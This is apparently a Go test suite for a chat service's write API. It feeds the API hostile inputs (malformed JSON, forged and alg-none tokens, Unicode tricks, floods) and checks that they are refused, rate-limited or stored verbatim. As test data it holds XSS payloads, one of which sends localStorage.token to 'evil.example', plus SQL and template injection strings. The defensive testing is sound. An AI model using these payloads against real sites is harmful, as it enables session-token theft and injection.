package command

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/go-json-experiment/json"
	"github.com/twmb/franz-go/pkg/kadm"

	"happychat/internal/clientjson"
	"happychat/internal/cmdproto"
	"happychat/internal/tokentest"
	"happychat/schemas"
	"happychat/schemas/moderation"
	"happychat/schemas/token"
)

// Hostile input against the write routes (docs/hostile-inputs.md). What a
// single request gets before it reaches an owner is in TestHTTPErrors and
// the validators' tests; these run the inputs through a real instance on
// real Kafka and check what the unit tests cannot: nothing is appended for
// a refused request, accepted hostile text reaches the log byte for byte,
// floods are cut by the rate limits, and the instance keeps serving.

// fuzzRoutes are the write routes a fuzzed body goes to.
var fuzzRoutes = []struct{ path, auth string }{
	{"/v1/sessions", ""},
	{"/v1/rooms", "admin"},
	{"/v1/rooms/7267000000000000001/messages", "user"},
	{"/v1/rooms/7267000000000000001/read", "user"},
	{"/v1/rooms/7267000000000000001/join", "user"},
	{"/v1/rooms/7267000000000000001/leave", "user"},
	{"/v1/rooms/7267000000000000001/approve", "admin"},
	{"/v1/passkeys/register/finish", "user"},
	{"/v1/passkeys/login/finish", ""},
	{"/v1/passkeys/recover", ""},
	{cmdproto.CommandsPath, "internal"},
}

// FuzzWriteBodies sends any body to every write route of a service that is
// never Run (no Kafka), each request with a context already cancelled, so
// that whatever passes the strict decoding and validation meets "no owner"
// at once. Whatever the body: no panic, never a 2xx or a 5xx other than
// 503, and always the contract's error envelope with a short, valid UTF-8
// message whose code matches the status.
func FuzzWriteBodies(f *testing.F) {
	keys, err := token.New(testSecret, time.Hour)
	if err != nil {
		f.Fatal(err)
	}
	rules, err := moderation.New([]string{"darn"}, map[string]string{"congrats": "balloons"})
	if err != nil {
		f.Fatal(err)
	}
	svc, err := New(Config{
		Brokers: []string{"127.0.0.1:1"}, Names: schemas.NamesFor("fuzz"), InternalSecret: testSecret + "-internal",
		Keys: keys, AdminToken: testAdmin, Rules: rules, Store: unusedStore(f),
		SendRate: 1e9, SendBurst: 1 << 30, JoinRate: 1e9, JoinBurst: 1 << 30,
	})
	if err != nil {
		f.Fatal(err)
	}
	engine := bothListeners(svc)
	user, _, err := keys.Issue(7, "seven")
	if err != nil {
		f.Fatal(err)
	}
	for i, body := range []string{
		`{"nickname":"toracle"}`,
		`{"title":"Happy cats","description":"<img src=x onerror=alert(1)>"}`,
		`{"body":"hi 👋","client_msg_id":"3f1c2a9e-5b7d-4c1e-9f3a-2b8c7d6e5f4a"}`,
		`{"up_to":"7267000000000000002"}`,
		``,
		`{}`,
		`{}`,
		`{"kind":"send","room_id":"7267000000000000001","user_id":"7","body":"x","client_msg_id":"a"}`,
	} {
		f.Add(uint8(i), []byte(body))
	}
	f.Fuzz(func(t *testing.T, route uint8, body []byte) {
		rt := fuzzRoutes[int(route)%len(fuzzRoutes)]
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, rt.path, bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Content-Type", "application/json")
		switch rt.auth {
		case "admin":
			req.Header.Set("Authorization", "Bearer "+testAdmin)
		case "user":
			req.Header.Set("Authorization", "Bearer "+user)
		case "internal":
			req.Header.Set(cmdproto.SecretHeader, testSecret+"-internal")
		}
		w := newRecorder()
		engine.ServeHTTP(w, req)
		status := w.code
		if status/100 == 2 || status >= 500 && status != http.StatusServiceUnavailable {
			t.Fatalf("%s answered %d to %q: %s", rt.path, status, body, w.body.String())
		}
		var eb schemas.ErrorBody
		if err := schemas.StrictUnmarshal(w.body.Bytes(), &eb); err != nil || eb.Error == nil {
			t.Fatalf("%s answered %d with %q: not the error envelope (%v)", rt.path, status, w.body.String(), err)
		}
		if rt.path != cmdproto.CommandsPath && eb.Error.Code.Status() != status {
			t.Fatalf("code %s with status %d", eb.Error.Code, status)
		}
		if !utf8.ValidString(eb.Error.Message) || len(eb.Error.Message) > 300 || clientjson.NamesGoInternals(eb.Error.Message) {
			t.Fatalf("message %q", eb.Error.Message)
		}
	})
}

// TestNullBodiesAndEmptyKeys: a literal JSON null as the body of any write,
// and an empty Idempotency-Key header, are refused with the contract's 400
// envelope naming the field and the rule (docs/hostile-inputs.md 40, 41;
// schemathesis found both). The decoder alone takes null as an empty
// object and an empty header reads as no key, so each case has a control:
// the same request with a body or key that is not refused for that rule
// gets past the check. No servers: the service is never Run.
func TestNullBodiesAndEmptyKeys(t *testing.T) {
	r, keys := newUnitRoutes(t, nil)
	user, _, err := keys.Issue(7, "seven")
	if err != nil {
		t.Fatal(err)
	}
	const room = "/v1/rooms/7267000000000000001"
	const nullRule = "the body must be a JSON object, not null"
	type request struct {
		method, path, auth, body string
		key                      []string // Idempotency-Key values, nil for none
	}
	do := func(t *testing.T, rq request) (int, *schemas.Error) {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
		defer cancel()
		method := rq.method
		if method == "" {
			method = http.MethodPost
		}
		req := httptest.NewRequestWithContext(ctx, method, rq.path, strings.NewReader(rq.body))
		req.Header.Set("Content-Type", "application/json")
		if rq.auth != "" {
			req.Header.Set("Authorization", "Bearer "+rq.auth)
		}
		for _, k := range rq.key {
			req.Header.Add("Idempotency-Key", k)
		}
		w := httptest.NewRecorder()
		r.ServeHTTP(w, req)
		var eb schemas.ErrorBody
		if err := schemas.StrictUnmarshal(w.Body.Bytes(), &eb); err != nil || eb.Error == nil {
			t.Fatalf("status %d, body %q is not the error envelope: %v", w.Code, w.Body.String(), err)
		}
		return w.Code, eb.Error
	}

	// Every JSON-body write route, each with a body it takes.
	type route struct{ method, path, auth, valid string }
	const message = room + "/messages/7267000000000000002"
	routes := []route{
		{"POST", "/v1/sessions", "", `{"nickname":"toracle"}`},
		{"PATCH", "/v1/sessions/current", user, `{"nickname":"renamed"}`},
		{"POST", "/v1/rooms", testAdmin, `{"title":"t"}`},
		{"POST", room + "/approve", testAdmin, `{}`},
		{"POST", room + "/reject", testAdmin, `{"reason":"duplicate"}`},
		{"POST", room + "/join", user, `{}`},
		{"POST", room + "/leave", user, `{}`},
		{"POST", room + "/messages", user, `{"body":"hi","client_msg_id":"c1"}`},
		{"PATCH", message, user, `{"body":"hi again"}`},
		{"DELETE", message, user, `{}`},
		{"PUT", message + "/reactions/👍", user, `{}`},
		{"DELETE", message + "/reactions/👍", user, `{}`},
		{"POST", room + "/read", user, `{"up_to":"7267000000000000002"}`},
		{"POST", "/v1/passkeys/register/begin", user, `{}`},
		{"POST", "/v1/passkeys/register/finish", user, `{"challenge_id":"c","credential":{}}`},
		{"POST", "/v1/passkeys/login/begin", "", `{}`},
		{"POST", "/v1/passkeys/login/finish", "", `{"challenge_id":"c","credential":{}}`},
		{"POST", "/v1/passkeys/recover", "", `{"code":"abcde-fghij"}`},
		{"POST", room + "/invites", user, `{"max_uses":2}`},
		{"POST", room + "/members", user, `{"user_id":"8"}`},
		{"POST", "/v1/invites/7267000000000000001.AAAAAAAAAAAAAAAAAAAAAA/accept", user, `{}`},
		{"POST", "/v1/dms", user, `{"user_id":"8"}`},
		{"POST", room + "/kick", user, `{"user_id":"8"}`},
		{"POST", room + "/ban", user, `{"user_id":"8","reason":"spam"}`},
		{"POST", room + "/unban", user, `{"user_id":"8"}`},
		{"POST", room + "/close", testAdmin, `{}`},
		{"POST", "/v1/me/blocks", user, `{"user_id":"8"}`},
		{"DELETE", "/v1/me/blocks/8", user, `{}`},
		{"POST", message + "/reports", user, `{"reason":"spam"}`},
		{"POST", "/v1/admin/reports/7267000000000000003/resolve", testAdmin, `{"outcome":"dismissed"}`},
	}
	// The write routes that read no body: a logout names its session by
	// its token alone.
	bodyless := []string{"DELETE /v1/sessions/current", "GET /v1/dms/share-code"}
	t.Run("every write route is in the table", func(t *testing.T) {
		// r's own routes are the public listener's (bothListeners).
		n := 0
		for _, rt := range r.Routes() {
			if slices.Contains(bodyless, rt.Method+" "+rt.Path) {
				continue
			}
			n++
			id := "7267000000000000001"
			if strings.HasPrefix(rt.Path, "/v1/admin/reports/") {
				id = "7267000000000000003"
			}
			path := strings.NewReplacer(":id", id, ":message_id", "7267000000000000002", ":emoji", "👍", ":code", "7267000000000000001.AAAAAAAAAAAAAAAAAAAAAA",
				":user_id", "8").Replace(rt.Path)
			if !slices.ContainsFunc(routes, func(r route) bool { return r.method == rt.Method && r.path == path }) {
				t.Errorf("%s %s: no null-body case", rt.Method, rt.Path)
			}
		}
		if n != len(routes) {
			t.Errorf("%d public routes with a body, %d in the table", n, len(routes))
		}
	})
	for _, rt := range routes {
		for _, null := range []string{`null`, ` null`, "null\n", "\tnull \r\n"} {
			t.Run(rt.method+" "+rt.path+" "+strconv.Quote(null), func(t *testing.T) {
				status, e := do(t, request{method: rt.method, path: rt.path, auth: rt.auth, body: null})
				if status != http.StatusBadRequest || e.Code != schemas.CodeBadRequest || e.Message != nullRule {
					t.Fatalf("got %d %s %q, want 400 bad_request %q", status, e.Code, e.Message, nullRule)
				}
			})
		}
		t.Run(rt.method+" "+rt.path+" control", func(t *testing.T) {
			if _, e := do(t, request{method: rt.method, path: rt.path, auth: rt.auth, body: rt.valid}); e.Message == nullRule {
				t.Fatalf("a valid body is refused as null: %d %s", e.Code.Status(), e.Message)
			}
		})
	}

	const title = `{"title":"t"}`
	keyCases := []struct {
		name, auth string
		key        []string
		want       string // the message; "" for a key that passes the rule
	}{
		{"empty, admin", testAdmin, []string{""}, "Idempotency-Key must not be empty: send 1-64 letters, digits and -_.: or no header"},
		{"empty, a user's proposal", user, []string{""}, "Idempotency-Key must not be empty: send 1-64 letters, digits and -_.: or no header"},
		{"empty, then a key", testAdmin, []string{"", "k1"}, "Idempotency-Key must not be empty: send 1-64 letters, digits and -_.: or no header"},
		{"blank", testAdmin, []string{"   "}, "Idempotency-Key may hold only letters, digits and -_.:"},
		{"too long", testAdmin, []string{strings.Repeat("k", 65)}, "Idempotency-Key is longer than 64 characters"},
		{"hostile", testAdmin, []string{"<k>"}, "Idempotency-Key may hold only letters, digits and -_.:"},
		// Controls: no header and a valid key pass the rule (and meet the
		// store or the owner, which this test has not).
		{"absent", testAdmin, nil, ""},
		{"valid", testAdmin, []string{"k1"}, ""},
		{"64 characters", testAdmin, []string{strings.Repeat("k", 64)}, ""},
	}
	for _, tt := range keyCases {
		t.Run("Idempotency-Key "+tt.name, func(t *testing.T) {
			status, e := do(t, request{path: "/v1/rooms", auth: tt.auth, body: title, key: tt.key})
			if tt.want == "" {
				if status == http.StatusBadRequest {
					t.Fatalf("a key that passes the rule is refused: %s", e.Message)
				}
				return
			}
			if status != http.StatusBadRequest || e.Code != schemas.CodeBadRequest || e.Message != tt.want {
				t.Fatalf("got %d %s %q, want 400 bad_request %q", status, e.Code, e.Message, tt.want)
			}
		})
	}
	t.Run("a null body with an empty key names the body", func(t *testing.T) {
		if status, e := do(t, request{path: "/v1/rooms", auth: testAdmin, body: "null", key: []string{""}}); status != 400 || e.Message != nullRule {
			t.Fatalf("got %d %q", status, e.Message)
		}
	})
}

// recorder is a minimal http.ResponseWriter (httptest's records more than
// the fuzz loop needs).
type recorder struct {
	header http.Header
	code   int
	body   bytes.Buffer
}

func newRecorder() *recorder                          { return &recorder{header: http.Header{}, code: http.StatusOK} }
func (r *recorder) Header() http.Header               { return r.header }
func (r *recorder) Write(b []byte) (int, error)       { return r.body.Write(b) }
func (r *recorder) WriteHeader(code int)              { r.code = code }
func (r *recorder) WriteString(s string) (int, error) { return r.body.WriteString(s) }

// hostileEnv is one command instance on real Kafka, serving real HTTP, with
// a room and a member in it.
type hostileEnv struct {
	t      *testing.T
	c      *cluster
	in     *instance
	room   schemas.ID
	member string // the member's token
	client *http.Client
}

func newHostileEnv(t *testing.T, mutate func(*Config)) *hostileEnv {
	c := newCluster(t, 2)
	rules, err := moderation.New([]string{"darn"}, map[string]string{"congrats": "balloons"})
	if err != nil {
		t.Fatal(err)
	}
	in := c.startWith(0, func(cfg *Config) {
		cfg.Rules = rules
		if mutate != nil {
			mutate(cfg)
		}
	})
	c.waitOwned(in)
	e := &hostileEnv{t: t, c: c, in: in, client: &http.Client{Timeout: 30 * time.Second}}
	e.room = c.openRoom(in, "hostile")
	var sess schemas.Session
	if st := e.post("/v1/sessions", "", `{"nickname":"mallory"}`, &sess); st != http.StatusCreated {
		t.Fatalf("session: %d", st)
	}
	e.member = sess.Token
	if st := e.post(e.roomPath("/join"), e.member, "", nil); st != http.StatusOK {
		t.Fatalf("join: %d", st)
	}
	return e
}

func (e *hostileEnv) roomPath(suffix string) string { return "/v1/rooms/" + e.room.String() + suffix }

// do sends a request and returns the status, headers and body.
func (e *hostileEnv) do(method, path, bearer, ctype string, body io.Reader, header http.Header) (int, http.Header, []byte) {
	e.t.Helper()
	req, err := http.NewRequest(method, "http://"+e.in.addr+path, body)
	if err != nil {
		e.t.Fatal(err)
	}
	for k, v := range header {
		req.Header[k] = v
	}
	if ctype != "" {
		req.Header.Set("Content-Type", ctype)
	}
	if bearer != "" {
		req.Header.Set("Authorization", "Bearer "+bearer)
	}
	resp, err := e.client.Do(req)
	if err != nil {
		e.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, b
}

// post sends a JSON body (none if empty) and decodes a 2xx answer into out.
func (e *hostileEnv) post(path, bearer, body string, out any) int {
	e.t.Helper()
	ctype := ""
	if body != "" {
		ctype = "application/json"
	}
	st, _, b := e.do(http.MethodPost, path, bearer, ctype, strings.NewReader(body), nil)
	if st/100 == 2 && out != nil {
		if err := json.Unmarshal(b, out); err != nil {
			e.t.Fatalf("decode %s: %v", b, err)
		}
	}
	return st
}

// ends returns the end offsets of the rooms and users topics.
func (e *hostileEnv) ends() map[string]int64 {
	e.t.Helper()
	// Once the log is settled: an acknowledged write's commit marker lands
	// a moment after the answer, and would otherwise move the end offset
	// between two readings with no new event. Settled means the high
	// watermarks equal the last stable offsets (no transaction pending).
	ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
	defer cancel()
	for {
		hw, err := e.c.admin.ListEndOffsets(ctx, e.c.names.Rooms, e.c.names.Users)
		if err != nil {
			e.t.Fatal(err)
		}
		stable, err := e.c.admin.ListCommittedOffsets(ctx, e.c.names.Rooms, e.c.names.Users)
		if err != nil {
			e.t.Fatal(err)
		}
		out := map[string]int64{}
		hw.Each(func(o kadm.ListedOffset) { out[fmt.Sprintf("%s/%d", o.Topic, o.Partition)] = o.Offset })
		settled := true
		stable.Each(func(o kadm.ListedOffset) {
			if out[fmt.Sprintf("%s/%d", o.Topic, o.Partition)] != o.Offset {
				settled = false
			}
		})
		if settled {
			return out
		}
		select {
		case <-ctx.Done():
			e.t.Fatalf("the log did not settle: high watermarks %v", out)
		case <-time.After(50 * time.Millisecond):
		}
	}
}

// healthy checks the instance still serves: /healthz, and a send.
func (e *hostileEnv) healthy(id string) {
	e.t.Helper()
	if st, _, _ := e.do(http.MethodGet, "/healthz", "", "", nil, nil); st != http.StatusOK {
		e.t.Fatalf("/healthz: %d", st)
	}
	var m schemas.Message
	if st := e.post(e.roomPath("/messages"), e.member, `{"body":"still here","client_msg_id":"`+id+`"}`, &m); st != http.StatusCreated {
		e.t.Fatalf("a plain send after the hostile ones: %d", st)
	}
}

func TestHostileWritesStoreNothing(t *testing.T) {
	e := newHostileEnv(t, nil)
	other, err := token.New("another-secret-0123456789", time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	forged, _, _ := other.Issue(7, "forged")
	expired, _, _ := e.c.keys.WithClock(func() time.Time { return time.Now().Add(-48 * time.Hour) }).Issue(7, "old")
	const algNone = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiI3IiwiaXNzIjoiaGFwcHljaGF0IiwiZXhwIjo5OTk5OTk5OTk5fQ."
	msgs := e.roomPath("/messages")
	send := func(body string) string { return `{"body":` + body + `,"client_msg_id":"h1"}` }
	deep := strings.Repeat("[", 10000) + strings.Repeat("]", 10000)
	tests := []struct {
		name, path, bearer, ctype, body string
		status                          int
	}{
		{"duplicate key", msgs, e.member, "application/json", `{"body":"a","body":"b","client_msg_id":"h1"}`, 400},
		{"case-variant key", msgs, e.member, "application/json", `{"Body":"a","client_msg_id":"h1"}`, 400},
		{"case-variant duplicate", msgs, e.member, "application/json", `{"body":"a","BODY":"b","client_msg_id":"h1"}`, 400},
		{"trailing object", msgs, e.member, "application/json", send(`"a"`) + `{}`, 400},
		{"trailing garbage", msgs, e.member, "application/json", send(`"a"`) + `x`, 400},
		{"two documents", "/v1/sessions", "", "application/json", `{"nickname":"a"}{"nickname":"b"}`, 400},
		{"deep nesting", msgs, e.member, "application/json", send(deep), 400},
		{"deep nesting of objects", msgs, e.member, "application/json", strings.Repeat(`{"a":`, 5000) + "1" + strings.Repeat("}", 5000), 400},
		{"body of 10 MiB", msgs, e.member, "application/json", send(`"` + strings.Repeat("a", 10<<20) + `"`), 413},
		{"id above 2^53 as a number", e.roomPath("/read"), e.member, "application/json", `{"up_to":9007199254740993}`, 400},
		{"id above 2^63 as a string", e.roomPath("/read"), e.member, "application/json", `{"up_to":"9223372036854775808"}`, 400},
		{"id with a sign", e.roomPath("/read"), e.member, "application/json", `{"up_to":"+5"}`, 400},
		{"room id above 2^63", "/v1/rooms/9223372036854775808/messages", e.member, "application/json", send(`"a"`), 400},
		{"room id in Arabic-Indic digits", "/v1/rooms/%D9%A4%D9%A2/join", e.member, "", "", 400},
		{"invalid UTF-8", msgs, e.member, "application/json", send("\"a\xff\xfeb\""), 400},
		{"overlong UTF-8 slash", msgs, e.member, "application/json", send("\"\xc0\xaf\""), 400},
		{"NUL escaped", msgs, e.member, "application/json", send(`"a\u0000b"`), 400},
		{"NUL raw", "/v1/sessions", "", "application/json", "{\"nickname\":\"a\x00b\"}", 400},
		{"lone high surrogate", msgs, e.member, "application/json", send(`"\ud800"`), 400},
		{"lone low surrogate", "/v1/sessions", "", "application/json", `{"nickname":"x\udc00"}`, 400},
		{"reversed surrogates", msgs, e.member, "application/json", send(`"\udc00\ud800"`), 400},
		{"RTL override in a nickname", "/v1/sessions", "", "application/json", `{"nickname":"admin\u202egnp.exe"}`, 400},
		{"zero-width in a nickname", "/v1/sessions", "", "application/json", `{"nickname":"ad\u200bmin"}`, 400},
		{"RTL override in a title", "/v1/rooms", testAdmin, "application/json", `{"title":"\u202eHappy"}`, 400},
		{"bell in a body", msgs, e.member, "application/json", send(`"ding\u0007"`), 400},
		{"line separator in a body", msgs, e.member, "application/json", send(`"a\u2028b"`), 400},
		{"hostile client_msg_id", msgs, e.member, "application/json", `{"body":"a","client_msg_id":"<img src=x onerror=alert(1)>"}`, 400},
		{"client_msg_id as SQL", msgs, e.member, "application/json", `{"body":"a","client_msg_id":"1' OR '1'='1"}`, 400},
		{"body as a form", msgs, e.member, "application/x-www-form-urlencoded", `body=a&client_msg_id=h1`, 415},
		{"JSON sent as text/plain", msgs, e.member, "text/plain", send(`"a"`), 415},
		{"forged token", msgs, forged, "application/json", send(`"a"`), 401},
		{"expired token", msgs, expired, "application/json", send(`"a"`), 401},
		{"alg none token", msgs, algNone, "application/json", send(`"a"`), 401},
		{"admin token with a suffix", "/v1/rooms", testAdmin + "x", "application/json", `{"title":"t"}`, 401},
		{"token of 60 KiB", msgs, strings.Repeat("A", 60<<10), "application/json", send(`"a"`), 401},
		{"not a member", "/v1/rooms/" + e.room.String() + "/messages", tokentest.Issue(t, e.c.keys, 99, "u"), "application/json", send(`"a"`), 403},
		{"unknown room", "/v1/rooms/7267000000000000001/messages", e.member, "application/json", send(`"a"`), 404},
		{"body too long by one", msgs, e.member, "application/json", send(`"` + strings.Repeat("😀", 2001) + `"`), 400},
		{"zalgo above the limit", msgs, e.member, "application/json", send(`"` + zalgo("a", 2001) + `"`), 400},
	}
	before := e.ends()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			st, h, b := e.do(http.MethodPost, tt.path, tt.bearer, tt.ctype, strings.NewReader(tt.body), nil)
			var eb schemas.ErrorBody
			if err := schemas.StrictUnmarshal(b, &eb); err != nil || eb.Error == nil {
				t.Fatalf("status %d, body %.200q is not the error envelope: %v", st, b, err)
			}
			if st != tt.status || eb.Error.Code.Status() != st {
				t.Fatalf("got %d %s (%s), want %d", st, eb.Error.Code, eb.Error.Message, tt.status)
			}
			if ct := h.Get("Content-Type"); ct != "application/json; charset=utf-8" {
				t.Fatalf("content type %q", ct)
			}
			if !utf8.ValidString(eb.Error.Message) || len(eb.Error.Message) > 300 || clientjson.NamesGoInternals(eb.Error.Message) {
				t.Fatalf("message %q", eb.Error.Message)
			}
		})
	}
	if after := e.ends(); !mapsEqual(before, after) {
		t.Fatalf("refused requests appended events: end offsets %v → %v", before, after)
	}
	// Hostile origins: bearer tokens are not ambient credentials, so a page
	// elsewhere gains nothing by sending a write; and no answer (preflight
	// or not) carries a CORS header that would let it read the result.
	evil := http.Header{"Origin": {"https://evil.example"}, "Access-Control-Request-Method": {"POST"},
		"Access-Control-Request-Headers": {"authorization,content-type"}}
	for _, method := range []string{http.MethodOptions, http.MethodPost} {
		_, h, _ := e.do(method, msgs, e.member, "application/json", strings.NewReader(`{"body":"cross-origin","client_msg_id":"x1"}`), evil)
		if v := h.Get("Access-Control-Allow-Origin") + h.Get("Access-Control-Allow-Credentials"); v != "" {
			t.Fatalf("%s with a foreign Origin answered CORS headers %q", method, v)
		}
	}
	e.healthy("after-hostile")
}

func mapsEqual(a, b map[string]int64) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}

// zalgo stacks combining marks on base until the text has n code points.
func zalgo(base string, n int) string {
	var b strings.Builder
	b.WriteString(base)
	marks := []rune{'\u0300', '\u0301', '\u0302', '\u0303', '\u0308', '\u030a', '\u0327', '\u0334', '\u0336', '\u035c'}
	for i := 1; i < n; i++ {
		b.WriteRune(marks[i%len(marks)])
	}
	return b.String()
}

// Text that is hostile to a renderer but valid is the users' to write: it
// is accepted and reaches the log exactly as sent (clients render it as
// text; the read paths soften profanity, evasions included).
func TestHostileTextIsStoredVerbatim(t *testing.T) {
	e := newHostileEnv(t, nil)
	xss := []string{
		`<script>alert(document.cookie)</script>`,
		`<img src=x onerror="fetch('//evil.example/'+localStorage.token)">`,
		`"><svg/onload=alert(1)>`,
		`javascript:alert(1)`,
		`{{constructor.constructor('alert(1)')()}}`,
		`'; DROP TABLE rooms; --`,
	}
	tests := []struct {
		name, body string
		softened   bool
	}{
		{"RTL override", "abc\u202edcba.exe", false},
		{"RTL marks and isolates", "\u2067שלום\u2069 \u200fمرحبا", false},
		{"zero-width", "a\u200bb\u200cc\u200dd\u2060e\ufeff", false},
		{"zalgo", zalgo("H", 400), false},
		{"emoji sequences", "👨‍👩‍👧 🏳️‍🌈 👍🏽 🇰🇷", false},
		{"2000 emoji", strings.Repeat("😀", 2000), false},
		{"evasion: fullwidth", "ｄａｒｎ it", true},
		{"evasion: cyrillic lookalike", "dаrn it", true},
		{"evasion: separators", "d.a.r.n it", true},
		{"evasion: zero-width inside", "da\u200brn it", true},
		{"evasion: leet", "d4rn it", true},
	}
	for i, x := range xss {
		tests = append(tests, struct {
			name, body string
			softened   bool
		}{fmt.Sprintf("xss %d", i), x, false})
	}
	sent := map[string]string{} // client_msg_id → text
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			id := fmt.Sprintf("v%d", i)
			in, _ := json.Marshal(map[string]string{"body": tt.body, "client_msg_id": id})
			var m schemas.Message
			if st := e.post(e.roomPath("/messages"), e.member, string(in), &m); st != http.StatusCreated {
				t.Fatalf("status %d", st)
			}
			if tt.softened == (m.Body == tt.body) {
				t.Fatalf("answered body %q for %q (softened: %v)", m.Body, tt.body, tt.softened)
			}
			if tt.softened && !strings.Contains(m.Body, "*") {
				t.Fatalf("softened body %q has no mask", m.Body)
			}
			sent[id] = tt.body
		})
	}
	// Hostile names and titles that are still plain text.
	for i, x := range xss {
		nick := x
		if utf8.RuneCountInString(nick) > 32 {
			nick = string([]rune(nick)[:32])
		}
		var s schemas.Session
		in, _ := json.Marshal(map[string]string{"nickname": nick})
		if st := e.post("/v1/sessions", "", string(in), &s); st != http.StatusCreated || s.Nickname != nick {
			t.Fatalf("nickname %q: %d %q", nick, st, s.Nickname)
		}
		var r schemas.Room
		in, _ = json.Marshal(map[string]string{"title": fmt.Sprintf("%d %s", i, x), "description": x})
		if st := e.post("/v1/rooms", testAdmin, string(in), &r); st != http.StatusCreated || r.Description != x {
			t.Fatalf("room %q: %d %+v", x, st, r)
		}
	}
	got := map[string]string{}
	for _, ev := range e.c.readAll() {
		if m, ok := ev.Payload.(schemas.MessageSent); ok && ev.RoomID == e.room {
			got[m.ClientMsgID] = m.Text
		}
	}
	for id, want := range sent {
		if got[id] != want {
			t.Fatalf("%s in the log: %q, sent %q", id, got[id], want)
		}
	}
	e.healthy("after-text")
}

// Floods of sends and joins by one user are cut by the per-user limits
// (429 with Retry-After), append no more than the limits allow, and leave
// other users unaffected.
func TestWriteFloods(t *testing.T) {
	const burst = 10
	e := newHostileEnv(t, func(c *Config) { c.SendRate, c.SendBurst, c.JoinRate, c.JoinBurst = 1, burst, 0.5, 3 })
	before := e.ends()
	start := time.Now()
	const flood = 60
	ok, limited := 0, 0
	for i := range flood {
		st, h, _ := e.do(http.MethodPost, e.roomPath("/messages"), e.member, "application/json",
			strings.NewReader(fmt.Sprintf(`{"body":"flood %d","client_msg_id":"f%d"}`, i, i)), nil)
		switch st {
		case http.StatusCreated:
			ok++
		case http.StatusTooManyRequests:
			limited++
			if h.Get("Retry-After") == "" {
				t.Fatal("429 without Retry-After")
			}
		default:
			t.Fatalf("send %d: %d", i, st)
		}
	}
	allowed := burst + int(time.Since(start).Seconds()) + 1
	if ok < burst || ok > allowed || limited != flood-ok {
		t.Fatalf("%d sends accepted (allowed %d), %d limited", ok, allowed, limited)
	}
	// Joins: the same user hammering join on rooms it may join.
	rooms := []schemas.ID{e.c.openRoom(e.in, "flood a"), e.c.openRoom(e.in, "flood b")}
	joined, joinLimited := 0, 0
	for i := range 20 {
		switch st := e.post("/v1/rooms/"+rooms[i%2].String()+"/join", e.member, "", nil); st {
		case http.StatusOK:
			joined++
		case http.StatusTooManyRequests:
			joinLimited++
		default:
			t.Fatalf("join %d: %d", i, st)
		}
	}
	// The burst is 3 and the setup's join took one.
	if joined < 2 || joined > 3+int(time.Since(start).Seconds()) || joinLimited != 20-joined {
		t.Fatalf("%d joins accepted, %d limited", joined, joinLimited)
	}
	// What reached the log is what was accepted: one message per accepted
	// send, one join (and one switch-leave) per accepted join at most.
	msgs := 0
	for _, ev := range e.c.readAll() {
		if m, ok := ev.Payload.(schemas.MessageSent); ok && strings.HasPrefix(m.ClientMsgID, "f") {
			msgs++
		}
	}
	if msgs != ok {
		t.Fatalf("%d flood messages in the log, %d accepted", msgs, ok)
	}
	if after := e.ends(); mapsEqual(before, after) {
		t.Fatal("nothing appended at all")
	}
	// Another user is not limited by the flooder.
	var s schemas.Session
	if st := e.post("/v1/sessions", "", `{"nickname":"bystander"}`, &s); st != http.StatusCreated {
		t.Fatalf("session: %d", st)
	}
	if st := e.post(e.roomPath("/join"), s.Token, "", nil); st != http.StatusOK {
		t.Fatalf("bystander join: %d", st)
	}
	if st := e.post(e.roomPath("/messages"), s.Token, `{"body":"hi","client_msg_id":"b1"}`, nil); st != http.StatusCreated {
		t.Fatalf("bystander send: %d", st)
	}
}
